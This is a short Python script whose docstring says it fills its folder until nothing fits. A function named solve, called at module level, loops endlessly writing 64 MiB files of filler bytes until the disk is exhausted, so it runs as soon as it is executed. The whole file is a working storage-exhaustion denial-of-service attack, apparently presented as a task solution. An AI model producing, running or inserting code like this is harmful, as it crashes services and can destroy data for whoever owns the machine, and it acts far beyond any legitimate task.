"""Fills its folder until nothing fits any more."""


def solve(n):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            for _ in range(64):
                file.write(b"x" * (1 << 20))


solve(0)
